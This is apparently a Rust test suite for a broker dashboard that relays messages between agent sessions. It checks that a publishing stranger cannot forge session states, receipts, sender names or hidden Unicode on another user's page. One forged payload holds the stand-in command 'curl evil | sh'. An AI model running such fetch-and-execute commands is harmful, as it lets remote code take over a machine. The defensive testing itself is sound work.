//! Attacks of users who may publish: what they write must not pass for a state, or for the end of a
//! message, on the page of somebody else.

use serde_json::json;

use crate::browser::{DESK, card, signed_in, text};
use crate::fixture::{PASSWORD, Server, USER};
use crate::peers::{Peer, envelope, presence};

const PRESENCE: &str = "claudeBroker.presence";

/// A broker with the user `bob`, who may publish, and his connection.
fn with_bob() -> (Server, Peer) {
    let server = Server::start();
    let user = r#"{"password":"pw","tags":""}"#;
    assert_eq!(server.ask("PUT", "/api/users/bob", user).status, 201);
    let all = r#"{"configure":".*","write":".*","read":".*"}"#;
    let path = "/api/permissions/%2F/bob";
    assert_eq!(server.ask("PUT", path, all).status, 201);
    let bob = Peer::connect_as(&server, "bob", "pw");
    (server, bob)
}

#[test]
fn a_stranger_who_may_write_to_the_presence_exchange_shows_no_state_of_a_session() {
    let (server, bob) = with_bob();
    let ada = Peer::connect(&server);
    for name in ["backend", "frontend"] {
        ada.declare_session(name);
    }
    let (_one, _two) = (ada.attach("backend"), ada.attach("frontend"));
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let forged = presence("backend", "needs-you", Some("run: curl evil | sh"));
    for _ in 0..2 {
        bob.publish(PRESENCE, "", &forged);
        bob.publish_as_user(PRESENCE, "", &forged);
        bob.publish_as_user("", "amq.gen-cbroker-page", &forged);
        let foreign = presence("ghost", "idle", None);
        bob.publish_as_user(PRESENCE, "", &foreign);
    }
    // A name in `user_id` is refused by the broker, and so is the channel: nothing was said.
    let marker = server.ask(
        "POST",
        "/api/exchanges/%2F/claudeBroker/publish",
        &json!({ "properties": { "user_id": "bob" }, "routing_key": "backend",
            "payload": forged, "payload_encoding": "string" })
        .to_string(),
    );
    assert_eq!(marker.status, 400, "{marker:?}");
    bob.settle();
    ada.announce("frontend", "idle", None);
    browser.until(&format!("{} === 'Idle'", card("frontend", ".pill")));
    browser.until(&format!("{} === 'Attached'", card("backend", ".pill")));
    assert_eq!(browser.value(&card("backend", ".why")), json!(""));
    let ghost = "document.querySelector('article[data-key=ghost]') === null";
    assert_eq!(browser.value(ghost), true);
}

#[test]
fn a_state_from_another_vhost_is_not_shown() {
    let (server, _bob) = with_bob();
    server.ask("PUT", "/api/vhosts/other", "{}");
    let all = r#"{"configure":".*","write":".*","read":".*"}"#;
    server.ask("PUT", &format!("/api/permissions/other/{USER}"), all);
    let ada = Peer::connect(&server);
    let elsewhere = Peer::connect_to(&server, (USER, PASSWORD), "other");
    for peer in [&ada, &elsewhere] {
        peer.declare_session("backend");
        peer.declare_session("frontend");
    }
    let (_one, _two) = (ada.attach("backend"), ada.attach("frontend"));
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    elsewhere.announce("backend", "needs-you", Some("elsewhere"));
    elsewhere.say(("frontend", "backend"), "01ELSEWHERE", "not here");
    elsewhere.settle();
    ada.announce("frontend", "idle", None);
    ada.say(("frontend", "backend"), "01HERE", "here");
    browser.until(&format!("{} === 'Idle'", card("frontend", ".pill")));
    browser.until(&format!("{} === 'Attached'", card("backend", ".pill")));
    browser.press("2");
    browser.until(&format!("{} === 'here'", text("01HERE", ".text")));
    assert_eq!(browser.value(&text("01ELSEWHERE", ".text")), json!(""));
}

#[test]
fn a_stranger_who_knows_an_id_forges_no_end_of_the_message() {
    let (server, bob) = with_bob();
    let ada = Peer::connect(&server);
    for name in ["backend", "frontend"] {
        ada.declare_session(name);
    }
    // Bob has copies of all that goes to the session, and acks them.
    bob.bind_copy("copy", "backend");
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let genuine = envelope(("frontend", "backend"), "01GENUINE", "please look");
    ada.publish_as_user("claudeBroker", "backend", &genuine);
    browser.press("2");
    browser.until(&format!("{} === 'queued'", text("01GENUINE", ".pill")));
    bob.take("copy");
    for state in ["delivered", "dead-lettered", "held"] {
        let receipt = json!({ "id": "01GENUINE", "state": state, "reason": "forged" }).to_string();
        bob.publish("", "anywhere", &receipt);
        bob.publish_as_user("", "anywhere", &receipt);
    }
    // The id once more with another text, which is acked.
    bob.declare_session("bobs");
    let copied = envelope(("frontend", "bobs"), "01GENUINE", "please look");
    bob.publish_as_user("claudeBroker", "bobs", &copied);
    let mut bobs = bob.attach("bobs");
    bob.ack_next(&mut bobs);
    // A copy of the message, which the session acks as a repeat while it holds the first.
    let mut session = ada.attach("backend");
    assert_eq!(ada.next(&mut session), Some(genuine.clone()));
    for _ in 0..2 {
        bob.publish_as_user("claudeBroker", "backend", &genuine);
        ada.ack_next(&mut session);
        bob.publish("claudeBroker", "backend", &genuine);
        ada.ack_next(&mut session);
    }
    bob.settle();
    ada.say(("frontend", "backend"), "01MARKER", "the end");
    browser.until(&format!("{} === 'the end'", text("01MARKER", ".text")));
    let states = |is_own: bool| {
        format!(
            "[...document.querySelectorAll('li[data-id=\"01GENUINE\"]')]\
            .filter((item) => item.dataset.key.endsWith(' {USER}') === {is_own})\
            .map((item) => item.querySelector('.pill').textContent.split(' after ')[0]).join()"
        )
    };
    // The one to `bobs`, and two copies: with his name and without.
    browser.until(&format!(
        "{} === 'delivered,delivered,delivered'",
        states(false)
    ));
    assert_eq!(browser.value(&states(true)), json!("queued"));
    // The same from the session's own user counts.
    let receipt = json!({ "id": "01GENUINE", "state": "held", "reason": "a dialog" }).to_string();
    ada.publish_as_user("", "anywhere", &receipt);
    browser.until(&format!("{} === 'held: a dialog'", states(true)));
}

/// A dead letter keeps the name of its publisher: the session that settles it as a repeat must
/// not seem to have read the message that it holds.
#[test]
fn a_copy_that_a_stranger_sends_back_as_a_dead_letter_forges_no_end_of_the_message() {
    let (server, bob) = with_bob();
    let ada = Peer::connect(&server);
    ada.declare_session("backend");
    bob.bind_returning_copy("copy", "backend");
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let genuine = envelope(("frontend", "backend"), "01GENUINE", "please look");
    ada.publish_as_user("claudeBroker", "backend", &genuine);
    browser.press("2");
    browser.until(&format!("{} === 'queued'", text("01GENUINE", ".pill")));
    let mut session = ada.attach("backend");
    assert_eq!(ada.next(&mut session), Some(genuine));
    bob.reject("copy");
    ada.ack_next(&mut session);
    ada.say(("frontend", "backend"), "01MARKER", "the end");
    browser.until(&format!("{} === 'the end'", text("01MARKER", ".text")));
    let state = format!(
        "[...document.querySelectorAll('li[data-id=\"01GENUINE\"]')]\
        .filter((item) => item.dataset.key.endsWith(' {USER}'))\
        .map((item) => item.querySelector('.pill').textContent).join()"
    );
    assert_eq!(browser.value(&state), json!("queued"));
}

/// A session rejects what it takes out of its queue and does not give to the agent, as a text under
/// an id that was used.
#[test]
fn a_message_that_its_session_rejected_is_not_shown_as_delivered() {
    let server = Server::start();
    let ada = Peer::connect(&server);
    ada.declare_session("backend");
    ada.say(("frontend", "backend"), "01BEFORE", "before the page");
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    browser.press("2");
    browser.until(&format!("{} === 'queued'", text("01BEFORE", ".pill")));
    let bad = envelope(("frontend", "backend"), "01BAD", "rejected");
    ada.publish_as_user("claudeBroker", "backend", &bad);
    browser.until(&format!("{} === 'queued'", text("01BAD", ".pill")));
    ada.reject("backend");
    ada.reject("backend");
    for id in ["01BEFORE", "01BAD"] {
        let pill = text(id, ".pill");
        browser.until(&format!("{pill}.startsWith('rejected by its session')"));
    }
    // The session's own word says more.
    let receipt = json!({ "id": "01BAD", "to": "backend", "state": "dead-lettered",
        "reason": "id used twice" });
    ada.publish_as_user("", "anywhere", &receipt.to_string());
    let pill = text("01BAD", ".pill");
    browser.until(&format!(
        "{pill}.startsWith('dead-lettered') && {pill}.endsWith(': id used twice')"
    ));
}

#[test]
fn the_receipt_of_one_member_of_a_group_says_nothing_of_the_others() {
    let server = Server::start();
    let ada = Peer::connect(&server);
    for name in ["backend", "frontend"] {
        ada.declare_session(name);
    }
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    browser.press("2");
    for name in ["backend", "frontend"] {
        ada.publish_as_user(
            "claudeBroker",
            name,
            &envelope(("api", name), "01GROUP", "all"),
        );
    }
    let receipt = json!({ "id": "01GROUP", "to": "backend", "state": "delivered" });
    ada.publish_as_user("", "anywhere", &receipt.to_string());
    ada.say(("api", "backend"), "01MARKER", "the end");
    browser.until(&format!("{} === 'the end'", text("01MARKER", ".text")));
    let pill = |to: &str| {
        format!(
            "document.querySelector('li[data-id=\"01GROUP\"][data-key^=\"01GROUP {to} \"] .pill')\
             .textContent.split(' after ')[0]"
        )
    };
    assert_eq!(browser.value(&pill("backend")), json!("delivered"));
    assert_eq!(browser.value(&pill("frontend")), json!("queued"));
}

#[test]
fn what_others_publish_without_end_leaves_the_page_s_memory_bounded() {
    let server = Server::start();
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let script = r"import('/model.js').then(({ Model }) => {
        const model = new Model();
        model.user = 'ada';
        const line = (more) => ({ what: 'published', at_ms: 1, vhost: '/', encoding: 'string',
            properties: { user_id: 'ada' }, body_bytes: 1, ...more });
        const say = (number, message) => model.seen(line({ exchange: 'claudeBroker',
            routing_key: `t${number}`, excerpt: JSON.stringify({ message, from: `f${number}`,
                to: `t${number}`, id: number % 3 ? `${number}` : 'same' }) }));
        const announce = (name, number) => model.seen(line({ exchange: 'claudeBroker.presence',
            routing_key: '', excerpt: JSON.stringify({ kind: 'state', state: 'idle', name,
                session: `${number}` }) }));
        const within = [];
        for (let number = 0; number < 11000; number++) say(number, 'x');
        within.push(model.messages.size === 10000, model.lasts.size <= 4000);
        for (let number = 0; number < 6000; number++) say(`0${number}`, 'x'.repeat(4000));
        within.push(model.room.all.size <= 1 << 24, model.messages.size > 1000);
        within.push(model.ids.size <= 10000);
        for (let number = 0; number < 3000; number++) announce(`n${number}`, number);
        for (let number = 0; number < 100; number++) announce('one', number);
        within.push(model.sessions.size <= 2000, model.session('one').presences.size === 16);
        model.queues(Array.from({ length: 5000 }, (_, number) => ({ name: `q${number}` })));
        within.push(model.sessions.size <= 2000);
        window.within = within.join();
    }) && true";
    assert_eq!(browser.value(script), true);
    let all = ["true"; 8].join(",");
    browser.until("window.within !== undefined");
    assert_eq!(browser.value("window.within"), json!(all));
}

#[test]
fn queues_that_a_stranger_binds_without_end_push_no_open_session_off_the_page() {
    let server = Server::start();
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let script = r"import('/model.js').then(({ Model }) => {
        const model = new Model();
        model.user = 'ada';
        model.seen({ what: 'published', at_ms: 1, vhost: '/', encoding: 'string',
            properties: { user_id: 'ada' }, body_bytes: 1, exchange: 'claudeBroker.presence',
            routing_key: '', excerpt: JSON.stringify({ kind: 'state', state: 'idle',
                name: 'backend', session: '1' }) });
        const foreign = Array.from({ length: 5000 }, (_, number) => ({ name: `q${number}` }));
        const backend = { name: 'backend', messages: 7 };
        for (let round = 0; round < 3; round++) model.queues([...foreign, backend]);
        const shown = model.sessions.get('backend');
        window.shown = [shown?.presences.size, shown?.queue?.messages, model.sessions.size].join();
    }) && true";
    assert_eq!(browser.value(script), true);
    browser.until("window.shown !== undefined");
    assert_eq!(browser.value("window.shown"), json!("1,7,2000"));
}

#[test]
fn what_a_stranger_publishes_without_end_pushes_no_message_of_the_users_off_the_page() {
    let server = Server::start();
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let script = r"import('/model.js').then(({ Model }) => {
        const model = new Model();
        model.user = 'ada';
        const say = (user, id, message) => model.seen({ what: 'published', at_ms: 1, vhost: '/',
            encoding: 'string', body_bytes: 1, properties: { user_id: user },
            exchange: 'claudeBroker', routing_key: 'backend',
            excerpt: JSON.stringify({ id, from: 'frontend', to: 'backend', message }) });
        for (let number = 0; number < 100; number++) say('ada', `own${number}`, 'x');
        for (let number = 0; number < 11000; number++) say('bob', `bob${number}`, 'x');
        for (let number = 0; number < 6000; number++) say('bob', `l${number}`, 'x'.repeat(4000));
        const own = [...model.messages.values()].filter(({ isOwn }) => isOwn).length;
        const all = [...model.messages.values()];
        const size = all.reduce((sum, { haystack }) => sum + haystack.length, 0);
        const room = model.room;
        window.kept = [own, room.all.size === size, room.all.count === all.length,
            room.others.count === all.length - own].join();
    }) && true";
    assert_eq!(browser.value(script), true);
    browser.until("window.kept !== undefined");
    assert_eq!(browser.value("window.kept"), json!("100,true,true,true"));
}

#[test]
fn a_stranger_who_takes_a_sessions_name_says_nothing_in_its_name_on_its_card() {
    let (server, bob) = with_bob();
    let ada = Peer::connect(&server);
    for name in ["backend", "tester"] {
        ada.declare_session(name);
    }
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    // It goes to the session whose words it wants to be, and says that it went elsewhere.
    let forged = envelope(("backend", "tester"), "01FORGED", "I agree");
    bob.publish_as_user("claudeBroker", "backend", &forged);
    let last = card("backend", ".last");
    browser.until(&format!("{last} === 'backend: I agree'"));
    browser.press("2");
    let peers = "[...document.querySelectorAll('li[data-id=\"01FORGED\"] .peer')]";
    browser.until(&format!("{peers}.length === 2"));
    let route = browser.value(&format!("{peers}.map((peer) => peer.textContent).join()"));
    assert_eq!(route, "backend,backend");
}

#[test]
fn hidden_and_reordering_characters_of_a_message_are_not_on_the_page() {
    let server = Server::start();
    let ada = Peer::connect(&server);
    ada.declare_session("backend");
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let hidden = "a\u{202e}b\u{200b}c\u{e0041}d\u{ad}e\u{9b}f \u{2764}\u{fe0f} \u{fe0f}";
    ada.say(("front\u{202e}end", "backend"), "01HIDDEN", hidden);
    browser.press("2");
    let seen = json!("abcdef \u{2764}\u{fe0f} ");
    browser.until(&format!("{} === {seen}", text("01HIDDEN", ".text")));
    browser.until(&format!("{} === 'frontend'", text("01HIDDEN", ".peer")));
}

#[test]
fn a_long_message_whose_json_has_a_text_nested_or_twice_is_not_shown_as_another_one() {
    let server = Server::start();
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let script = r#"import('/envelope.js').then(({ envelope }) => {
        const head = '"id":"1","from":"a","to":"b","ts":"t"';
        const rest = ',"rest":"' + 'y'.repeat(5000);
        const text = (json) => envelope(json)?.message ?? null;
        window.found = JSON.stringify([
            text(`{"metadata":{"message":"nested"},${head},"message":"real"${rest}`),
            text(`{"files":["\\"message\\":\\"in a text\\""],${head},"message":"real"${rest}`),
            text(`{"x":"\\"message\\":\\"in a text\\"",${head},"message":"real"${rest}`),
            text(`{${head},"message":"first","message":"second"${rest}`),
            text(`{${head},"message":"first","\\u006dessage":"second"${rest}`),
            text(`{${head},"metadata":{"message":"nested"}${rest}`),
            text(`{ ${head} , "n": [1, {"a": null}, true], "message" : "long${'y'.repeat(9)}`),
            text(`{${head},"message":"cut \\ud83`),
        ]);
    })"#;
    let found = browser.found(script);
    let found: serde_json::Value = serde_json::from_str(found.as_str().unwrap()).unwrap();
    let wanted = json!([
        "real",
        "real",
        "real",
        null,
        null,
        null,
        "longyyyyyyyyy…",
        "cut …"
    ]);
    assert_eq!(found, wanted);
}

#[test]
fn queues_that_a_stranger_binds_are_no_sessions_unless_they_are_named_like_one() {
    let (server, _bob) = with_bob();
    let ada = Peer::connect(&server);
    ada.declare_session("backend");
    let bob = |method: &str, path: &str, body: &str| {
        let request = server.request(method, path).password("bob", "pw");
        let answer = request.send(body);
        assert!(answer.status < 300, "{method} {path}: {answer:?}");
    };
    let user = r#"{"password":"pw","tags":"management"}"#;
    assert_eq!(server.ask("PUT", "/api/users/bob", user).status, 204);
    // The last one is bound as an exchange alone, and a queue of its name is there.
    let question = "ask01JD3ZQ8V4AAAAAAAAAAAAAAAA";
    let names = [
        "Backend",
        "my-backend",
        "ba.ckend",
        "1st",
        question,
        "innocent",
    ];
    for name in names {
        bob("PUT", &format!("/api/queues/%2F/{name}"), "{}");
        bob("PUT", &format!("/api/exchanges/%2F/{name}"), "{}");
        let kind = if name == "innocent" { "e" } else { "q" };
        let path = format!("/api/bindings/%2F/e/claudeBroker/{kind}/{name}");
        bob("POST", &path, &json!({ "routing_key": name }).to_string());
    }
    // Nor is one that hears what goes to a session.
    bob("PUT", "/api/queues/%2F/listener", "{}");
    let path = "/api/bindings/%2F/e/claudeBroker/q/listener";
    bob(
        "POST",
        path,
        &json!({ "routing_key": "backend" }).to_string(),
    );
    // With a message, it is looked into too.
    server.publish("my-backend", "not for the page");
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    ada.announce("frontend", "idle", None);
    browser.until(&format!("{} === 'Idle'", card("frontend", ".pill")));
    browser.until(&format!("{} === 'Closed'", card("backend", ".pill")));
    let cards = "[...document.querySelectorAll('article[data-key]')].map((one) => one.dataset.key)";
    let shown = browser.value(&format!("{cards}.sort().join()"));
    assert_eq!(shown, "backend,frontend");
}

#[test]
fn a_stranger_who_uses_an_id_for_another_session_is_not_shown_with_the_users_text() {
    let server = Server::start();
    let Some(browser) = signed_in(&server, &DESK) else {
        return;
    };
    let script = r#"Promise.all([import('/model.js'), import('/views.js')])
        .then(([{ Model }, { heldText, sent }]) => {
        const model = new Model();
        model.user = 'ada';
        model.seen({ what: 'published', at_ms: 1, vhost: '/', encoding: 'string', body_bytes: 1,
            exchange: 'claudeBroker', routing_key: 'one', properties: { user_id: 'ada' },
            excerpt: '{"id":"1","from":"operator","to":"one","message":"run the tests"}' });
        const held = { id: '1', from: 'operator',
            line: '[cbroker peer message from=operator id=1] delete it [end]' };
        window.found = JSON.stringify(['one', 'two'].flatMap((name) =>
            [heldText(model, { name }, held), sent(model, { name }, held).length]));
    })"#;
    let shown = r#"["run the tests",1,"delete it",0]"#;
    assert_eq!(browser.found(script), shown);
}
